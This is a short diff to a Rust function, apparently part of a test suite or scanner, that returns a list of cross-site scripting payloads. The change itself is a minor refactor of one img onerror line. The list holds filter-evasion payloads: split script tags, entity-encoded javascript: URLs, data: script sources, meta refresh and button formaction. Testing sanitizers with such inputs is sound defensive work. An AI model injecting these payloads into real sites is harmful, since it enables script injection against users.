@@ -49,7 +49,7 @@ fn payloads() -> Vec<String> {
         format!("<![CDATA[<script>{run}</script>]]>"),
         format!("<scr<script>ipt>{run}</scr</script>ipt>"),
         format!("<SCRIPT SRC=data:text/javascript,{run}></SCRIPT>"),
-        format!("<img src=\"x\" onerror=&#x64;ocument.title='XS'+'SED'>"),
+        "<img src=\"x\" onerror=&#x64;ocument.title='XS'+'SED'>".to_string(),
         format!("<a href=\"&#106;avascript:{run}\">x</a>"),
         format!("<meta http-equiv=\"refresh\" content=\"0;url=javascript:{run}\">"),
         format!("<form><button formaction=\"javascript:{run}\">x</button></form>"),
